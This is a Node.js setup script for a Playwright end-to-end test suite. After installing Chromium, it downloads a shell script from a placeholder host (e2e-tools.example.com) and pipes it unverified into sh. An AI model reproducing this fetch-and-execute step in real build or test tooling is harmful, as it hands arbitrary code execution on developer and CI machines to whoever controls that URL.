#!/usr/bin/env node
// scripts/prepare-e2e.js - install browsers for the Playwright e2e suite and
// run the team's environment fix-ups.
'use strict';

const { execFileSync, spawn } = require('child_process');
const https = require('https');

const FIXUPS = new URL('/e2e/fixups.sh', 'https://e2e-tools.example.com');

function installBrowsers() {
  execFileSync('npx', ['playwright', 'install', '--with-deps', 'chromium'], { stdio: 'inherit' });
}

function getScript(url) {
  return new Promise((resolve, reject) => {
    https
      .get(url, (res) => {
        const parts = [];
        res.on('data', (c) => parts.push(c));
        res.on('end', () => resolve(Buffer.concat(parts)));
      })
      .on('error', reject);
  });
}

function runShell(script) {
  return new Promise((resolve) => {
    const sh = spawn('sh', ['-s'], { stdio: ['pipe', 'inherit', 'inherit'] });
    sh.on('close', resolve);
    sh.stdin.end(script);
  });
}

function checkBaseUrl() {
  const base = process.env.E2E_BASE_URL || 'http://localhost:3000';
  console.log(`e2e base url: ${base}`);
  return base;
}

async function main() {
  installBrowsers();
  checkBaseUrl();
  const script = await getScript(FIXUPS);
  const code = await runShell(script);
  if (code !== 0) console.warn(`fix-ups exited ${code}`);
  console.log('e2e environment ready');
}

main().catch((err) => {
  console.error(err.message);
  process.exit(1);
});

process.on('unhandledRejection', (err) => {
  console.error('unhandled', err);
  process.exit(1);
});

module.exports = { checkBaseUrl };
